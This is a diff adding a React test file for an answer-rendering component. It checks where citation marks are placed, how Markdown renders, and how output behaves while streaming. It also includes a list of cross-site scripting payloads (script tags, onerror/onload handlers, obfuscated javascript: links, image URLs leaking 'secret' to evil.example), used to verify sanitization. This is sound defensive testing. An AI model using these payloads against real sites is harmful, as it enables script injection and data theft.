@@ -1,0 +1,217 @@
+import { act, cleanup, render, screen } from "@testing-library/react";
+import { afterEach, describe, expect, test, vi } from "vitest";
+import type { Citation } from "@/api/types";
+import { aSource, cites } from "@/testing/answers";
+import { AnswerText } from "./AnswerText";
+import { MarksContext } from "./CitationMark";
+
+afterEach(cleanup);
+
+const SOURCES = [aSource(), aSource({ source_id: 2, filename: "valves.md" })];
+
+function show(text: string, citations: readonly Citation[] = []): HTMLElement {
+  const { container } = render(
+    <MarksContext value={{ sources: SOURCES, open: false, onOpen: () => undefined }}>
+      <AnswerText text={text} citations={citations} />
+    </MarksContext>,
+  );
+  return container;
+}
+
+/** The text as it is read, marks as ‹1›, or ‹1?› if they are not verified. */
+function read(container: HTMLElement): string {
+  for (const button of container.querySelectorAll("button")) {
+    button.textContent = `‹${button.textContent}›`;
+  }
+  return container.textContent ?? "";
+}
+
+describe("a mark", () => {
+  test("takes the place of the marker in its sentence", () => {
+    const text = "It opens [1]. It closes.";
+    expect(read(show(text, [cites(text, "It opens [1].")]))).toBe("It opens ‹1›. It closes.");
+  });
+
+  test("takes the place of the marker behind its sentence", () => {
+    const text = "It opens. [1] It closes.\n\n[2]\n\nEnd.";
+    const citations = [
+      cites(text, "It opens."),
+      cites(text, "It closes.", { source_id: 2, verified: false }),
+    ];
+    expect(read(show(text, citations))).toBe("It opens. ‹1› It closes.‹2?›End.");
+  });
+
+  test("takes the place of the marker that opens the line of its sentence", () => {
+    const text = "It is old [1].\n1. [1] It opens.\n2. [1] It closes.";
+    show(text, [cites(text, "It opens."), cites(text, "It is old [1].", { verified: false })]);
+    const names = screen.getAllByRole("button").map((mark) => mark.getAttribute("aria-label"));
+    expect(names).toEqual([
+      "Source 1, not verified: pump-manual.md",
+      "Source 1, verified: pump-manual.md",
+      "Source 1, no quotation found: pump-manual.md",
+    ]);
+  });
+
+  test("stands once for each of several citations at one place, in their order", () => {
+    const text = 'He said "open" and "shut" [1][2].';
+    const citations = [
+      cites(text, text, { citation_id: "a" }),
+      cites(text, text, { citation_id: "b", verified: false }),
+      cites(text, text, { citation_id: "c", source_id: 2 }),
+    ];
+    expect(read(show(text, citations))).toBe('He said "open" and "shut" ‹1›‹1?›‹2›.');
+  });
+
+  test("stands behind its sentence where there is no marker, whatever characters come before", () => {
+    const text = "😀 Ein 🦜 lebt. Es *öffnet*. Ende";
+    const citations = [
+      cites(text, "😀 Ein 🦜 lebt."),
+      cites(text, "Es *öffnet*.", { source_id: 2 }),
+    ];
+    expect(read(show(text, citations))).toBe("😀 Ein 🦜 lebt.‹1› Es öffnet.‹2› Ende");
+  });
+
+  test("stands behind words that are written otherwise than they read", () => {
+    const text = "5 \\* 3 &amp; more. Next";
+    const container = show(text, [cites(text, "5 \\* 3 &amp; more.")]);
+    expect(read(container)).toBe("5 * 3 & more. Next‹1›");
+  });
+
+  test("takes a marker's place among escapes, entities and lines of a quotation", () => {
+    const text = "> 5 \\* 3\n> &amp; more [1]. \\[1\\]\n";
+    expect(read(show(text, [cites(text, "5 \\* 3\n> &amp; more [1].")]))).toBe(
+      "5 * 3\n& more ‹1›. [1]",
+    );
+  });
+
+  test("stands in the list's item and in the table's cell that it belongs to", () => {
+    const text = "- one [1]\n- two\n\n| a | b |\n|---|---|\n| left | right [2] |\n";
+    const container = show(text, [
+      cites(text, "one [1]"),
+      cites(text, "two", { source_id: 2 }),
+      cites(text, "| left | right [2] |", { source_id: 2 }),
+    ]);
+    read(container);
+    const texts = Array.from(container.querySelectorAll("li, td"), (each) => each.textContent);
+    expect(texts).toEqual(["one ‹1›", "two‹2›", "left", "right ‹2›"]);
+  });
+
+  test("never stands in code, but behind it", () => {
+    const text = "Call `open([1])` now.\n\n```\nopen() [1]\n```\n\nEnd";
+    const container = show(text, [
+      cites(text, "Call `open", { source_id: 2 }),
+      cites(text, "open() [1]"),
+    ]);
+    const codes = Array.from(container.querySelectorAll("code"), (each) => each.textContent);
+    expect(codes).toEqual(["open([1])", "open() [1]"]);
+    expect(container.querySelector("code button")).toBeNull();
+    expect(read(container)).toBe("Call open([1])‹2› now.open() [1]‹1›End");
+  });
+
+  test("stands for a source that is only named, and a number of no source stays as it is", () => {
+    expect(read(show("It opens [2]. It closes [9]."))).toBe("It opens ‹2›. It closes [9].");
+  });
+
+  test("stands at the same place at each moment of the writing", () => {
+    const text = "One [1].\n\n- two [2]\n- three\n\nFour [1]. Five";
+    const citations = [cites(text, "One [1]."), cites(text, "two [2]", { source_id: 2 })];
+    const { container, rerender } = render(null);
+    for (let end = 1; end <= text.length; end += 1) {
+      const come = citations.filter(({ answer_end }) => answer_end <= end);
+      rerender(
+        <MarksContext value={{ sources: SOURCES, open: true, onOpen: () => undefined }}>
+          <AnswerText text={text.slice(0, end)} citations={come} />
+        </MarksContext>,
+      );
+    }
+    expect(read(container)).toBe("One ‹1›.two ‹2›threeFour ‹1›. Five");
+  });
+});
+
+describe("Markdown", () => {
+  test("has no heading above the third level", () => {
+    show("# One\n\n## Two\n\n### Three\n\nFour\n===\n");
+    const levels = screen.getAllByRole("heading").map(({ tagName }) => tagName);
+    expect(levels).toEqual(["H3", "H3", "H4", "H3"]);
+  });
+
+  test("shows tables and code in boxes that the keyboard can scroll", () => {
+    show("| a |\n|---|\n| b |\n\n```\nc\n```");
+    expect(screen.getByRole("group", { name: "Table" }).tabIndex).toBe(0);
+    expect(screen.getByRole("group", { name: "Code" }).tabIndex).toBe(0);
+  });
+
+  test("keeps the numbers of a list and what of it is done", () => {
+    const container = show("3. three\n4. four\n\n- [x] yes\n- [ ] no");
+    expect(container.querySelector("ol")?.start).toBe(3);
+    expect(screen.getByRole("img", { name: "Done:" })).toBeDefined();
+    expect(screen.getByRole("img", { name: "To do:" })).toBeDefined();
+  });
+
+  test("shows links as their words and their address, and images as what they show", () => {
+    expect(read(show("[the docs](https://a.example/x) ![a *cat*](https://b.example/c.png)"))).toBe(
+      "the docs (https://a.example/x) [image: a cat]",
+    );
+  });
+});
+
+const HOSTILE = [
+  "[click](javascript:alert(1)) and [data](data:text/html,<script>alert(1)</script>)",
+  '![x](https://evil.example/?q=secret "t") ![](//evil.example/p.gif)',
+  "<https://evil.example> https://evil.example www.evil.example me@evil.example",
+  '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<iframe src="//evil.example">',
+  "<style>*{display:none}</style> <object data=x></object> <form action=//evil.example>",
+  "[ref][a] ![img][a] [a]\n\n[a]: https://evil.example 'title'\n\n[1]: javascript:alert(1)\n\n[1]",
+  "<!-- comment --><b onclick='x()'>bold</b> &lt;img src=x&gt; &#60;script&#62;",
+  "<svg/onload=alert(1)> <math><mi//xlink:href='data:x,<script>'>",
+  "[![nested](https://evil.example/a.png)](https://evil.example)",
+  "[^1] and [^x]\n\n[^1]: <img src=x>\n\n[^x]: https://evil.example",
+  "```html onload=x\n<script>alert(1)</script>\n```\n\n    <img src=x onerror=alert(1)>",
+  "| <img src=x> | [a](javascript:x) |\n|---|---|\n| ![x](//evil.example) | <a href=x>y</a> |",
+  "[a](vbscript:x) [b](\u0001javascript:x) [c](&#106;avascript:x) [d](java\nscript:x)",
+];
+
+describe.each(HOSTILE)("hostile Markdown %j", (text) => {
+  test("has nothing in it that loads, runs or leads away, at any moment of the writing", () => {
+    const { container, rerender } = render(null);
+    for (let end = 1; end <= text.length; end += 1) {
+      rerender(<AnswerText text={text.slice(0, end)} citations={[]} />);
+      expect(
+        container.querySelector(
+          "a, area, img, picture, video, audio, source, iframe, frame, script, style, link, meta, base, object, embed, form, input, svg, math, [src], [href], [srcset], [action], [style]",
+        ),
+      ).toBeNull();
+      for (const element of container.querySelectorAll("*")) {
+        expect(element.getAttributeNames().filter((name) => name.startsWith("on"))).toEqual([]);
+      }
+    }
+  });
+});
+
+test("one very long block grows in steps, and comes to its end", () => {
+  vi.useFakeTimers();
+  const table = `| a | b |\n|---|---|\n${"| a row of a | long table |\n".repeat(500)}`;
+  const { container, rerender } = render(<AnswerText text={table} citations={[]} />);
+  const drawn = () => container.querySelectorAll("tbody tr").length;
+  rerender(<AnswerText text={`${table}| one |`} citations={[]} />);
+  rerender(<AnswerText text={`${table}| one |\n| two |`} citations={[]} />);
+  expect(drawn()).toBe(500);
+  act(() => vi.advanceTimersByTime(200));
+  expect(drawn()).toBe(502);
+  vi.useRealTimers();
+});
+
+test("a long list is one list, of which only the end is drawn again", () => {
+  const items = "- an item\n".repeat(300);
+  const { container, rerender } = render(<AnswerText text={items} citations={[]} />);
+  const first = container.querySelector("li");
+  rerender(<AnswerText text={`${items}- last\n\nEnd`} citations={[]} />);
+  expect(container.querySelectorAll("ul")).toHaveLength(1);
+  expect(container.querySelectorAll("ul > li")).toHaveLength(301);
+  expect(container.querySelector("li")).toBe(first);
+});
+
+test("HTML is shown as it was written", () => {
+  const text = "a <b>bold</b> word\n\n<div>block</div>\n\n<!-- note -->";
+  expect(read(show(text))).toBe("a <b>bold</b> word<div>block</div><!-- note -->");
+});
